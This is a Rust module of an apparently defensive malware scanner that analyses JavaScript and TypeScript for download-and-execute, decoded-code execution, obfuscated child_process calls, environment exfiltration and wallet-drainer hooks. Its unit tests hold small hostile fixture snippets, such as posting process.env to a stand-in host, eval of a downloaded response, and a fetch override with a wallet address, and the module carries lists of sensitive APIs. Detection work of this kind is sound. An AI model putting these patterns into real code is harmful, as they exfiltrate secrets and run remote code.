//! JavaScript and TypeScript, parsed with oxc: the same facts as [`super::python`] gives for
//! Python, from what a module does with `require`, `child_process`, `eval`/`Function`/`vm`,
//! `http(s)`/`fetch`, `fs`, `process.env` and the browser's `fetch`/`XMLHttpRequest`/
//! `window.ethereum`.
//!
//! Values are folded where they are constant (concatenation, templates, `String.fromCharCode`,
//! `split('').reverse().join('')`, `Buffer.from(…, 'base64'|'hex')`, `atob`) and carry where
//! their content came from; callbacks handed to a download (`https.get(url, res => …)`,
//! `res.on('data', c => …)`, `.then(r => …)`) receive downloaded values. The file is walked
//! twice so a value assigned after the function that uses it is declared still reaches it;
//! facts are recorded on the second walk only.

use std::collections::HashMap;

use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, ArrayExpressionElement, AssignmentOperator, AssignmentTarget, BinaryOperator,
    BindingPattern, CallExpression, Expression, FormalParameters, ObjectPropertyKind, PropertyKey,
    VariableDeclarator,
};
use oxc_ast_visit::{Visit, walk};
use oxc_parser::Parser;
use oxc_span::{GetSpan, SourceType};
use oxc_syntax::scope::ScopeFlags;

use super::{Behaviour, Fact, Facts, Origin, Site, Taint, When, decode, strings};

/// Deepest decoded layer analysed again.
const MAX_DEPTH: u32 = 4;
/// Deepest bracket nesting parsed.
const MAX_NESTING: usize = 400;
/// Longest folded text kept.
const MAX_TEXT: usize = 1 << 20;

#[derive(Clone, Debug, Default)]
struct Val {
    text: Option<String>,
    /// Built at run time by a transform that hides it (reversal, char codes, decoding).
    hidden: bool,
    /// The dotted name it denotes (`child_process.exec`, `https.get`).
    name: Option<String>,
    origins: Vec<Origin>,
}

impl Val {
    fn text(t: String, hidden: bool) -> Val {
        let mut t = t;
        if t.len() > MAX_TEXT {
            let mut cut = MAX_TEXT;
            while !t.is_char_boundary(cut) {
                cut -= 1;
            }
            t.truncate(cut);
        }
        Val {
            text: Some(t),
            hidden,
            ..Val::default()
        }
    }

    fn named(n: impl Into<String>) -> Val {
        Val {
            name: Some(n.into()),
            ..Val::default()
        }
    }

    fn add(&mut self, from: &[Origin]) {
        for o in from {
            if !self.origins.contains(o) {
                self.origins.push(o.clone());
            }
        }
    }
}

/// Analyses one JavaScript or TypeScript file; false when it could not be parsed at all.
pub fn analyse(path: &str, source: &str, when: When, facts: &mut Facts) -> bool {
    analyse_at(path, source, when, None, 0, facts)
}

fn analyse_at(
    path: &str,
    source: &str,
    when: When,
    outer: Option<(u32, String)>,
    depth: u32,
    facts: &mut Facts,
) -> bool {
    // oxc and the walker recurse per nesting level: a hostile file nested thousands deep is
    // left to the line rules rather than risking the stack.
    if nesting(source) > MAX_NESTING {
        return false;
    }
    let allocator = Allocator::default();
    let source_type = SourceType::from_path(path).unwrap_or_else(|_| SourceType::unambiguous());
    let parsed = Parser::new(&allocator, source, source_type).parse();
    if parsed.panicked {
        return false;
    }
    let mut walker = Walker {
        path,
        source,
        lines: line_starts(source),
        when,
        outer,
        depth,
        record: false,
        units: Vec::new(),
        vars: vec![HashMap::new()],
        pending: HashMap::new(),
        facts: Vec::new(),
    };
    walker.visit_program(&parsed.program);
    walker.record = true;
    walker.visit_program(&parsed.program);
    facts.facts.append(&mut walker.facts);
    true
}

/// Deepest bracket nesting outside nothing in particular (strings included: an upper bound).
fn nesting(s: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for b in s.bytes() {
        match b {
            b'(' | b'[' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

fn line_starts(s: &str) -> Vec<usize> {
    std::iter::once(0)
        .chain(s.match_indices('\n').map(|(i, _)| i + 1))
        .collect()
}

struct Walker<'s> {
    path: &'s str,
    source: &'s str,
    lines: Vec<usize>,
    when: When,
    /// For decoded code: the line and unit of the literal it came from.
    outer: Option<(u32, String)>,
    depth: u32,
    record: bool,
    units: Vec<String>,
    /// Variables by name, file-wide (values only grow: a flow-insensitive view).
    vars: Vec<HashMap<String, Val>>,
    /// Callbacks that receive downloaded content, by where they start: their parameters are
    /// bound to it when their scope opens.
    pending: HashMap<u32, Origin>,
    facts: Vec<Fact>,
}

impl<'s> Walker<'s> {
    fn line(&self, offset: u32) -> u32 {
        if let Some((line, _)) = &self.outer {
            return *line;
        }
        let i = self.lines.partition_point(|s| *s <= offset as usize);
        i as u32
    }

    fn unit(&self) -> String {
        if let Some((_, unit)) = &self.outer {
            return unit.clone();
        }
        format!(
            "{}:{}",
            self.path,
            self.units.last().map_or("<module>", String::as_str)
        )
    }

    fn when(&self) -> When {
        match self.units.last() {
            Some(f) if self.outer.is_none() => When::Call(f.clone()),
            _ => self.when.clone(),
        }
    }

    fn site(&self, offset: u32) -> Site {
        Site {
            file: self.path.to_string(),
            line: self.line(offset),
        }
    }

    fn origin(&self, taint: Taint, offset: u32, detail: String) -> Origin {
        Origin {
            taint,
            site: self.site(offset),
            detail,
        }
    }

    fn snippet(&self, offset: u32) -> String {
        let line = self.line(offset) as usize;
        let start = self.lines.get(line.saturating_sub(1)).copied().unwrap_or(0);
        let end = self.lines.get(line).copied().unwrap_or(self.source.len());
        let text = self.source.get(start..end).unwrap_or_default().trim();
        text.chars().take(160).collect()
    }

    fn fact(&mut self, behaviour: Behaviour, offset: u32, detail: String, from: Vec<Origin>) {
        if !self.record {
            return;
        }
        let fact = Fact {
            behaviour,
            site: self.site(offset),
            unit: self.unit(),
            when: self.when(),
            detail,
            from,
            snippet: self.snippet(offset),
        };
        self.facts.push(fact);
    }

    /// Facts from what a string says; credential paths taint the value.
    fn classify(&mut self, text: &str, offset: u32, v: &mut Val, used: bool) {
        let head: String = text.chars().take(64 << 10).collect();
        for (behaviour, what) in strings::classify(&head) {
            match behaviour {
                Behaviour::ReadsCredentials => {
                    v.add(&[self.origin(Taint::Credential, offset, what.to_string())]);
                }
                Behaviour::Persists if !used => {
                    v.add(&[self.origin(Taint::AutostartPath, offset, what.to_string())]);
                    continue;
                }
                _ => {}
            }
            self.fact(behaviour, offset, what.to_string(), Vec::new());
        }
        if strings::is_metadata_endpoint(&head) {
            v.add(&[self.origin(
                Taint::Credential,
                offset,
                "the cloud metadata endpoint's credentials".into(),
            )]);
        }
    }

    fn literal(&mut self, text: String, offset: u32, hidden: bool) -> Val {
        let mut v = Val::text(text.clone(), hidden);
        self.classify(&text, offset, &mut v, false);
        if is_wallet_address(&text) {
            self.fact(
                Behaviour::NamesWallet,
                offset,
                format!(
                    "a wallet address ({})",
                    text.chars().take(12).collect::<String>()
                ),
                Vec::new(),
            );
        }
        if strings::invisible_count(&text) >= 16 {
            self.fact(
                Behaviour::InvisibleText,
                offset,
                format!("{} invisible characters", strings::invisible_count(&text)),
                Vec::new(),
            );
        }
        v
    }

    /// Decoded text: tainted, classified, analysed again when it reads as code.
    fn decoded(&mut self, text: String, offset: u32, how: &str) -> Val {
        let mut v = self.literal(text.clone(), offset, true);
        v.add(&[self.origin(Taint::Decoded, offset, format!("code decoded with {how}"))]);
        if self.record && self.depth < MAX_DEPTH && decode::looks_like_text(text.as_bytes()) {
            let mut inner = Facts::default();
            let outer = Some((self.line(offset), self.unit()));
            analyse_at(
                self.path,
                &text,
                self.when(),
                outer,
                self.depth + 1,
                &mut inner,
            );
            self.facts.extend(inner.facts);
        }
        v
    }

    fn bind_pattern(&mut self, pattern: &BindingPattern, v: Val) {
        match pattern {
            BindingPattern::BindingIdentifier(id) => {
                self.declare(id.name.as_str(), v);
            }
            BindingPattern::ObjectPattern(o) => {
                // `const { exec } = require('child_process')`
                for p in &o.properties {
                    let key = property_key(&p.key);
                    let mut field = Val {
                        origins: v.origins.clone(),
                        ..Val::default()
                    };
                    if let (Some(base), Some(k)) = (&v.name, &key) {
                        field.name = Some(format!("{base}.{k}"));
                    } else if let Some(k) = &key
                        && v.name.is_none()
                    {
                        field.name = Some(k.clone());
                    }
                    self.bind_pattern(&p.value, field);
                }
            }
            BindingPattern::AssignmentPattern(a) => self.bind_pattern(&a.left, v),
            BindingPattern::ArrayPattern(a) => {
                for el in a.elements.iter().flatten() {
                    self.bind_pattern(
                        el,
                        Val {
                            origins: v.origins.clone(),
                            ..Val::default()
                        },
                    );
                }
            }
        }
    }

    fn lookup(&self, name: &str) -> Option<&Val> {
        self.vars.iter().rev().find_map(|s| s.get(name))
    }

    /// `let`/`const`/`var` and parameters: a name of the innermost scope.
    fn declare(&mut self, name: &str, v: Val) {
        let depth = self.vars.len() - 1;
        self.merge(depth, name, v);
    }

    /// `x = …`: the innermost scope that declares `x`, else the module's (an implicit global).
    fn assign(&mut self, name: &str, v: Val) {
        let depth = self
            .vars
            .iter()
            .rposition(|s| s.contains_key(name))
            .unwrap_or(0);
        self.merge(depth, name, v);
    }

    fn merge(&mut self, depth: usize, name: &str, v: Val) {
        let Some(scope) = self.vars.get_mut(depth) else {
            return;
        };
        let slot = scope.entry(name.to_string()).or_default();
        if v.text.is_some() || slot.text.is_none() {
            slot.text = v.text.clone();
            slot.hidden = v.hidden;
        }
        if v.name.is_some() {
            slot.name = v.name.clone();
        }
        let origins = v.origins.clone();
        slot.add(&origins);
    }

    /// A function's own scope: its parameters, bound to downloaded content when it is a
    /// callback of a download.
    fn open_scope(&mut self, start: u32, params: &FormalParameters) {
        self.vars.push(HashMap::new());
        if let Some(origin) = self.pending.get(&start).cloned() {
            for p in &params.items {
                if let Some(n) = p.pattern.get_identifier_name() {
                    self.declare(
                        n.as_str(),
                        Val {
                            origins: vec![origin.clone()],
                            ..Val::default()
                        },
                    );
                }
            }
        }
    }

    fn close_scope(&mut self) {
        if self.vars.len() > 1 {
            self.vars.pop();
        }
    }

    fn callback_params(&mut self, args: &[Argument], origin: &Origin) {
        for a in args {
            match a.as_expression().map(Expression::get_inner_expression) {
                Some(Expression::ArrowFunctionExpression(f)) => {
                    self.pending.insert(f.span.start, origin.clone());
                }
                Some(Expression::FunctionExpression(f)) => {
                    self.pending.insert(f.span.start, origin.clone());
                }
                _ => {}
            }
        }
    }

    fn args(&mut self, args: &[Argument]) -> Vec<Val> {
        args.iter()
            .map(|a| match a.as_expression() {
                Some(e) => self.eval(e),
                None => Val::default(),
            })
            .collect()
    }

    fn eval(&mut self, e: &Expression) -> Val {
        // Long `a + b + c + …` chains nest without brackets.
        stacker::maybe_grow(128 << 10, 4 << 20, || self.eval_inner(e))
    }

    fn eval_inner(&mut self, e: &Expression) -> Val {
        let offset = e.span().start;
        match e {
            Expression::StringLiteral(s) => {
                let raw = self
                    .source
                    .get(s.span.start as usize..s.span.end as usize)
                    .unwrap_or_default();
                // `\x`/`\u` escapes in source hide what the literal says.
                let escaped = raw.contains("\\x") || raw.contains("\\u");
                self.literal(s.value.to_string(), offset, escaped)
            }
            Expression::TemplateLiteral(t) => {
                let mut text = String::new();
                let mut origins = Vec::new();
                for (i, q) in t.quasis.iter().enumerate() {
                    text.push_str(q.value.cooked.as_ref().map_or("", |c| c.as_str()));
                    if let Some(x) = t.expressions.get(i) {
                        let v = self.eval(x);
                        text.push_str(v.text.as_deref().unwrap_or("*"));
                        origins.extend(v.origins);
                    }
                }
                let mut v = self.literal(text, offset, false);
                v.add(&origins);
                v
            }
            Expression::NumericLiteral(_) => Val::default(),
            Expression::RegExpLiteral(r) => {
                let raw = self
                    .source
                    .get(r.span.start as usize..r.span.end as usize)
                    .unwrap_or_default();
                // An address swapper finds addresses in responses by pattern.
                if raw.contains("0x[") && raw.contains("{40}")
                    || raw.contains("bc1")
                    || raw.contains("{25,34}")
                    || raw.contains("{32,44}")
                {
                    self.fact(
                        Behaviour::NamesWallet,
                        offset,
                        "a pattern matching wallet addresses".into(),
                        Vec::new(),
                    );
                }
                Val::default()
            }
            Expression::Identifier(id) => {
                let name = id.name.as_str();
                match self.lookup(name) {
                    Some(v) => v.clone(),
                    None => Val::named(name),
                }
            }
            Expression::ParenthesizedExpression(p) => self.eval(&p.expression),
            Expression::AwaitExpression(a) => self.eval(&a.argument),
            Expression::SequenceExpression(s) => {
                let mut last = Val::default();
                for x in &s.expressions {
                    last = self.eval(x);
                }
                last
            }
            Expression::ConditionalExpression(c) => {
                self.eval(&c.test);
                let a = self.eval(&c.consequent);
                let mut b = self.eval(&c.alternate);
                b.add(&a.origins);
                if b.text.is_none() {
                    b.text = a.text;
                }
                b
            }
            Expression::LogicalExpression(l) => {
                let a = self.eval(&l.left);
                let mut b = self.eval(&l.right);
                b.add(&a.origins);
                if a.name.is_some() {
                    b.name = a.name;
                }
                b
            }
            Expression::BinaryExpression(b) => {
                let l = self.eval(&b.left);
                let r = self.eval(&b.right);
                let mut v = match (&l.text, &r.text, b.operator) {
                    (Some(x), Some(y), BinaryOperator::Addition) => {
                        let mut v = Val::text(format!("{x}{y}"), l.hidden || r.hidden);
                        // The classes are paths and command lines: classifying every step of
                        // a long concatenation would cost its length squared.
                        if x.len() + y.len() <= 4096 {
                            let t = v.text.clone().unwrap_or_default();
                            self.classify(&t, offset, &mut v, false);
                        }
                        v
                    }
                    _ => Val::default(),
                };
                v.add(&l.origins);
                v.add(&r.origins);
                v
            }
            Expression::ArrayExpression(a) => {
                let mut v = Val::default();
                for el in &a.elements {
                    if let ArrayExpressionElement::SpreadElement(s) = el {
                        let x = self.eval(&s.argument);
                        v.add(&x.origins);
                    } else if let Some(x) = el.as_expression() {
                        let x = self.eval(x);
                        v.add(&x.origins);
                    }
                }
                v
            }
            Expression::ObjectExpression(o) => {
                let mut v = Val::default();
                for p in &o.properties {
                    match p {
                        ObjectPropertyKind::ObjectProperty(p) => {
                            let x = self.eval(&p.value);
                            v.add(&x.origins);
                        }
                        ObjectPropertyKind::SpreadProperty(s) => {
                            let x = self.eval(&s.argument);
                            v.add(&x.origins);
                        }
                    }
                }
                v
            }
            Expression::StaticMemberExpression(m) => {
                let obj = self.eval(&m.object);
                self.member(obj, m.property.name.as_str(), false, offset)
            }
            Expression::ComputedMemberExpression(m) => {
                let obj = self.eval(&m.object);
                let key = self.eval(&m.expression);
                match key.text {
                    Some(k) => self.member(obj, &k, true, offset),
                    None => {
                        let mut v = Val::default();
                        v.add(&obj.origins);
                        v
                    }
                }
            }
            Expression::CallExpression(c) => self.call(c),
            Expression::NewExpression(n) => {
                let callee = self.eval(&n.callee);
                let args = self.args(&n.arguments);
                let name = callee.name.clone().unwrap_or_default();
                if name == "Function" {
                    self.runs_code("new Function", args.last(), offset);
                }
                if name == "vm.Script" {
                    self.runs_code("vm.Script", args.first(), offset);
                }
                let mut v = Val::named(format!("new {name}"));
                for a in &args {
                    v.add(&a.origins);
                }
                v
            }
            Expression::AssignmentExpression(a) => self.assignment(a),
            Expression::ArrowFunctionExpression(f) => {
                self.units.push("<arrow>".into());
                self.open_scope(f.span.start, &f.params);
                walk::walk_arrow_function_expression(self, f);
                self.close_scope();
                self.units.pop();
                Val::default()
            }
            Expression::FunctionExpression(f) => {
                let name =
                    f.id.as_ref()
                        .map_or("<function>".to_string(), |i| i.name.to_string());
                self.units.push(name);
                self.open_scope(f.span.start, &f.params);
                walk::walk_function(self, f, ScopeFlags::Function);
                self.close_scope();
                self.units.pop();
                Val::default()
            }
            _ => {
                walk::walk_expression(self, e);
                Val::default()
            }
        }
    }

    fn member(&mut self, obj: Val, prop: &str, computed: bool, offset: u32) -> Val {
        let base = obj.name.clone().unwrap_or_default();
        let name = if base.is_empty() {
            prop.to_string()
        } else {
            format!("{base}.{prop}")
        };
        let mut v = Val::named(global(&name));
        if base == "process.env" {
            // One named variable is configuration, not the environment.
            v.origins = obj
                .origins
                .iter()
                .filter(|o| o.taint != Taint::Environment)
                .cloned()
                .collect();
        } else {
            v.add(&obj.origins);
        }
        if name == "process.env" {
            v.add(&[self.origin(
                Taint::Environment,
                offset,
                "the whole environment (process.env)".into(),
            )]);
        }
        if computed && sensitive(&global(&name)) && !base.is_empty() {
            self.fact(
                Behaviour::HidesName,
                offset,
                format!("reaches {} through a computed name", global(&name)),
                Vec::new(),
            );
        }
        // A downloaded response's body, text or JSON is downloaded content.
        v
    }

    fn runs_code(&mut self, how: &str, code: Option<&Val>, offset: u32) {
        let mut from = code.map(|c| c.origins.clone()).unwrap_or_default();
        if let Some(c) = code
            && c.hidden
            && let Some(t) = &c.text
        {
            from.push(self.origin(
                Taint::Decoded,
                offset,
                format!(
                    "code assembled at run time (`{}`)",
                    t.chars().take(60).collect::<String>()
                ),
            ));
            let t = t.clone();
            if self.record && self.depth < MAX_DEPTH {
                let mut inner = Facts::default();
                let outer = Some((self.line(offset), self.unit()));
                analyse_at(
                    self.path,
                    &t,
                    self.when(),
                    outer,
                    self.depth + 1,
                    &mut inner,
                );
                self.facts.extend(inner.facts);
            }
        }
        self.fact(
            Behaviour::RunsCode,
            offset,
            format!("runs it with {how}"),
            from,
        );
    }

    fn call(&mut self, c: &CallExpression) -> Val {
        let offset = c.span.start;
        let callee = self.eval(&c.callee);
        let name = callee.name.clone().unwrap_or_default();
        let method = name.rsplit('.').next().unwrap_or_default().to_string();
        // Callbacks given a download (or a downloaded value's methods) receive downloaded
        // content: their parameters are tainted before their bodies are walked.
        let downloads = is_download(&name);
        // The callee's value carries its receiver's origins (re-evaluating the receiver would
        // cost time exponential in a call chain's length).
        let receiver = callee.origins.clone();
        let received = if downloads {
            Some(self.origin(Taint::Downloaded, offset, format!("the response of {name}")))
        } else {
            receiver
                .iter()
                .find(|o| o.taint == Taint::Downloaded)
                .cloned()
        };
        if let Some(o) = &received {
            self.callback_params(&c.arguments, o);
        }
        let args = self.args(&c.arguments);
        let given: Vec<Origin> = args.iter().flat_map(|a| a.origins.clone()).collect();
        let text0 = args.first().and_then(|a| a.text.clone());
        match name.as_str() {
            "require" | "import" | "process.mainModule.require" | "module.require" => {
                if let Some(m) = &text0 {
                    return Val::named(m.trim_start_matches("node:").to_string());
                }
                // A module chosen at run time from a downloaded or decoded name.
                if !given.is_empty() {
                    self.fact(
                        Behaviour::RunsCode,
                        offset,
                        "loads a module by a name built at run time".into(),
                        given,
                    );
                }
                return Val::default();
            }
            "String.fromCharCode" => {
                return Val::text(
                    args.iter()
                        .filter_map(|a| a.text.as_deref())
                        .collect::<String>(),
                    true,
                );
            }
            "atob" => {
                if let Some(t) = &text0
                    && let Some(bytes) = decode::base64(t.as_bytes())
                {
                    return self.decoded(
                        String::from_utf8_lossy(&bytes).into_owned(),
                        offset,
                        "atob",
                    );
                }
            }
            "Buffer.from" => {
                let enc = args.get(1).and_then(|a| a.text.clone()).unwrap_or_default();
                if let Some(t) = &text0 {
                    let bytes = match enc.as_str() {
                        "base64" | "base64url" => decode::base64(t.as_bytes()),
                        "hex" => decode::hex(t.as_bytes()),
                        _ => None,
                    };
                    if let Some(b) = bytes {
                        let how = format!("Buffer.from(…, '{enc}')");
                        return self.decoded(
                            String::from_utf8_lossy(&b).into_owned(),
                            offset,
                            &how,
                        );
                    }
                }
            }
            "eval"
            | "vm.runInThisContext"
            | "vm.runInNewContext"
            | "vm.runInContext"
            | "vm.compileFunction"
            | "Function"
            | "setTimeout"
            | "setInterval"
            | "module._compile" => {
                let code = if name == "Function" {
                    args.last()
                } else {
                    args.first()
                };
                // Timers run strings only; a function argument is ordinary code.
                let is_string = code.is_some_and(|c| c.text.is_some());
                if !name.starts_with("set") || is_string {
                    self.runs_code(&name, code, offset);
                }
                return Val::default();
            }
            "os.homedir" => return Val::text("~".into(), false),
            "path.join" | "path.resolve" => {
                let parts: Vec<&str> = args
                    .iter()
                    .map(|a| a.text.as_deref().unwrap_or("*"))
                    .collect();
                let mut v = Val::text(parts.join("/"), false);
                let t = v.text.clone().unwrap_or_default();
                self.classify(&t, offset, &mut v, false);
                v.add(&given);
                return v;
            }
            "JSON.stringify" | "JSON.parse" | "String" | "encodeURIComponent"
            | "Object.entries" | "Object.keys" | "Object.values" => {
                let mut v = Val::default();
                v.add(&given);
                return v;
            }
            _ => {}
        }
        let module = name.split('.').next().unwrap_or_default();
        // Processes.
        if matches!(module, "child_process")
            && matches!(
                method.as_str(),
                "exec" | "execSync" | "spawn" | "spawnSync" | "execFile" | "execFileSync" | "fork"
            )
        {
            let command: Vec<String> = args.iter().filter_map(|a| a.text.clone()).collect();
            let command = command.join(" ");
            let mut out = Val::default();
            if !command.is_empty() {
                let mut tmp = Val::default();
                self.classify(&command, offset, &mut tmp, true);
                out.add(&tmp.origins);
            }
            self.fact(
                Behaviour::RunsProcess,
                offset,
                format!(
                    "runs {} with {name}",
                    if command.is_empty() {
                        "a command".to_string()
                    } else {
                        format!("`{}`", command.chars().take(80).collect::<String>())
                    }
                ),
                given,
            );
            return out;
        }
        // The network.
        let sends_dns = module == "dns"
            && matches!(
                method.as_str(),
                "resolve" | "resolveTxt" | "lookup" | "resolve4" | "resolveAny"
            );
        if downloads || sends_dns {
            if !given.is_empty() {
                self.fact(
                    Behaviour::Sends,
                    offset,
                    format!("sends it with {name}"),
                    given.clone(),
                );
            }
            let mut v = Val::named(format!("{name}()"));
            if let Some(o) = received {
                self.fact(
                    Behaviour::Downloads,
                    offset,
                    format!("downloads with {name}"),
                    Vec::new(),
                );
                v.add(&[o]);
            }
            return v;
        }
        // `req.write(data)`, `ws.send(data)`, `socket.write(data)` on a request object.
        if matches!(method.as_str(), "write" | "end" | "send")
            && (name.contains("req") || name.contains("socket") || name.contains("ws"))
            && !given.is_empty()
        {
            self.fact(
                Behaviour::Sends,
                offset,
                format!("sends it with {name}"),
                given,
            );
            return Val::default();
        }
        // Methods on a downloaded value: `res.on('data', c => …)`, `.then(r => …)`, `.text()`.
        if let Some(o) = received {
            let mut v = Val::default();
            v.add(&[o]);
            return v;
        }
        // Files.
        if module == "fs" || module == "fs/promises" {
            match method.as_str() {
                "readFileSync" | "readFile" => {
                    let mut v = Val::default();
                    if let Some(p) = args.first() {
                        v.add(&p.origins);
                        v.origins.retain(|o| o.taint == Taint::Credential);
                        if v.origins.iter().any(|o| o.taint == Taint::Credential) {
                            let detail = v.origins[0].detail.clone();
                            self.fact(Behaviour::ReadsCredentials, offset, detail, Vec::new());
                        }
                    }
                    return v;
                }
                "writeFileSync" | "writeFile" | "appendFileSync" | "appendFile"
                | "copyFileSync" => {
                    if let Some(p) = args.get(if method.starts_with("copy") { 1 } else { 0 }) {
                        let places: Vec<String> = p
                            .origins
                            .iter()
                            .filter(|o| o.taint == Taint::AutostartPath)
                            .map(|o| o.detail.clone())
                            .collect();
                        for what in places {
                            self.fact(
                                Behaviour::Persists,
                                offset,
                                format!("{what} (written)"),
                                Vec::new(),
                            );
                        }
                        if p.text
                            .as_deref()
                            .is_some_and(|t| t.contains(".github/workflows/"))
                        {
                            self.fact(
                                Behaviour::Publishes,
                                offset,
                                "writes a CI workflow".into(),
                                Vec::new(),
                            );
                        }
                    }
                    return Val::default();
                }
                "chmodSync" | "chmod" => {
                    self.fact(
                        Behaviour::MakesExecutable,
                        offset,
                        "makes a file executable".into(),
                        Vec::new(),
                    );
                    return Val::default();
                }
                _ => {}
            }
        }
        // A method's result carries what its receiver carried (`.toString()`, `.trim()`).
        let mut v = Val::named(format!("{name}()"));
        v.add(&given);
        v.add(&callee.origins);
        // `.split('').reverse().join('')` over a constant.
        if method == "join"
            && let Expression::StaticMemberExpression(m) = &c.callee
            && let Expression::CallExpression(rev) = m.object.get_inner_expression()
            && let Expression::StaticMemberExpression(r) = &rev.callee
            && r.property.name == "reverse"
            && let Expression::CallExpression(split) = r.object.get_inner_expression()
            && let Expression::StaticMemberExpression(s) = &split.callee
            && s.property.name == "split"
        {
            let inner = self.eval(&s.object);
            if let Some(t) = inner.text {
                return Val::text(t.chars().rev().collect(), true);
            }
        }
        v
    }

    fn assignment(&mut self, a: &oxc_ast::ast::AssignmentExpression) -> Val {
        let offset = a.span.start;
        let v = self.eval(&a.right);
        match &a.left {
            AssignmentTarget::AssignmentTargetIdentifier(id) => {
                let mut nv = v.clone();
                if a.operator == AssignmentOperator::Addition
                    && let Some(prev) = self.lookup(id.name.as_str())
                {
                    nv.add(&prev.origins.clone());
                }
                self.assign(id.name.as_str(), nv);
            }
            AssignmentTarget::StaticMemberExpression(m) => {
                let obj = self.eval(&m.object);
                let target = format!(
                    "{}.{}",
                    obj.name.clone().unwrap_or_default(),
                    m.property.name
                );
                let target = global(&target);
                if let Some(what) = browser_hook(&target) {
                    self.fact(
                        Behaviour::HooksBrowser,
                        offset,
                        what.to_string(),
                        Vec::new(),
                    );
                }
            }
            _ => {}
        }
        v
    }
}

/// An Ethereum-style address (`0x` and 40 hex digits) or a Bitcoin bech32 one.
fn is_wallet_address(t: &str) -> bool {
    let t = t.trim();
    (t.len() == 42
        && t.starts_with("0x")
        && t[2..].bytes().all(|b| b.is_ascii_hexdigit())
        && t[2..].bytes().any(|b| b.is_ascii_alphabetic()))
        || (t.starts_with("bc1q")
            && (42..=62).contains(&t.len())
            && t.bytes().all(|b| b.is_ascii_alphanumeric()))
}

fn is_download(name: &str) -> bool {
    matches!(
        name,
        "fetch"
            | "https.get"
            | "http.get"
            | "https.request"
            | "http.request"
            | "axios"
            | "axios.get"
            | "axios.post"
            | "axios.request"
            | "got"
            | "needle"
            | "request"
    )
}

/// `window.x`, `globalThis.x`, `self.x`, `global.x` are the global `x`.
fn global(name: &str) -> String {
    for prefix in ["window.", "globalThis.", "self.", "global."] {
        if let Some(rest) = name.strip_prefix(prefix) {
            return rest.to_string();
        }
    }
    name.to_string()
}

fn sensitive(name: &str) -> bool {
    matches!(
        name,
        "eval"
            | "Function"
            | "require"
            | "child_process.exec"
            | "child_process.execSync"
            | "child_process.spawn"
            | "process.mainModule"
    ) || name.starts_with("child_process.")
}

/// A browser API a drainer overrides, by the global it assigns.
fn browser_hook(target: &str) -> Option<&'static str> {
    match target {
        "fetch" => Some("replaces the browser's fetch"),
        "XMLHttpRequest.prototype.send" | "XMLHttpRequest.prototype.open" => {
            Some("replaces XMLHttpRequest's send/open")
        }
        t if t.starts_with("ethereum.") || t == "ethereum" => {
            Some("hooks the wallet provider (window.ethereum)")
        }
        _ => None,
    }
}

fn property_key(k: &PropertyKey) -> Option<String> {
    match k {
        PropertyKey::StaticIdentifier(i) => Some(i.name.to_string()),
        PropertyKey::StringLiteral(s) => Some(s.value.to_string()),
        _ => None,
    }
}

impl<'a> Visit<'a> for Walker<'_> {
    fn visit_expression(&mut self, it: &Expression<'a>) {
        self.eval(it);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        let v = match &it.init {
            Some(init) => self.eval(init),
            None => Val::default(),
        };
        self.bind_pattern(&it.id, v);
    }

    fn visit_function(&mut self, it: &oxc_ast::ast::Function<'a>, flags: ScopeFlags) {
        let name = it
            .id
            .as_ref()
            .map_or("<function>".to_string(), |i| i.name.to_string());
        self.units.push(name);
        self.open_scope(it.span.start, &it.params);
        walk::walk_function(self, it, flags);
        self.close_scope();
        self.units.pop();
    }
}

#[cfg(test)]
mod tests {
    use super::super::judge;
    use super::*;

    fn rules(src: &str) -> Vec<String> {
        let mut facts = Facts::default();
        assert!(analyse("package/index.js", src, When::Import, &mut facts));
        judge(&facts).into_iter().map(|f| f.rule).collect()
    }

    #[test]
    fn hostile_shapes_end_quickly_without_overflowing() {
        let chain = format!("a{}\n", ".b()".repeat(5000));
        let sum = format!("x = 'a'{}\n", " + 'b'".repeat(20000));
        let deep = format!("{}1{}\n", "(".repeat(100_000), ")".repeat(100_000));
        let run = move || {
            for src in [chain, sum, deep] {
                let mut facts = Facts::default();
                analyse("package/x.js", &src, When::Import, &mut facts);
            }
        };
        // A small stack, as a worker thread has.
        std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(run)
            .expect("thread")
            .join()
            .expect("no overflow");
    }

    #[test]
    fn a_download_run_through_callbacks_is_a_flow() {
        let src = "const https = require('https');\nhttps.get('https://example.com/x', res => {\n  let d = '';\n  res.on('data', c => { d += c; });\n  res.on('end', () => { eval(d); });\n});\n";
        assert!(
            rules(src).contains(&"heuristics.download-exec".to_string()),
            "{:?}",
            rules(src)
        );
    }

    #[test]
    fn decoded_code_run_is_decode_exec_and_names_are_folded() {
        let src = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n";
        assert!(
            rules(src).contains(&"heuristics.decode-exec".to_string()),
            "{:?}",
            rules(src)
        );
        let hidden = "const cp = require('child' + '_process');\nconst n = 'cexe'.split('').reverse().join('');\ncp[n]('id');\n";
        assert!(
            rules(hidden).contains(&"heuristics.hidden-call".to_string()),
            "{:?}",
            rules(hidden)
        );
    }

    #[test]
    fn the_environment_posted_is_exfiltration() {
        let src = "fetch('https://example.com/c', { method: 'POST', body: JSON.stringify(process.env) });\n";
        assert!(
            rules(src).contains(&"heuristics.environment-exfiltration".to_string()),
            "{:?}",
            rules(src)
        );
    }

    #[test]
    fn a_fetch_hook_with_addresses_is_a_drainer_and_alone_is_low() {
        let drainer = "const a = '0x66a9893cC07D91D95644AEDD05D03f95e1dBA8Af';\nconst f = window.fetch;\nwindow.fetch = async (...x) => { const r = await f(...x); return r; };\n";
        assert!(
            rules(drainer).contains(&"heuristics.wallet-drainer".to_string()),
            "{:?}",
            rules(drainer)
        );
        let tracker = "const orig = window.fetch;\nwindow.fetch = function (...a) { record(a); return orig.apply(this, a); };\n";
        assert_eq!(rules(tracker), vec!["heuristics.browser-hook".to_string()]);
    }
}
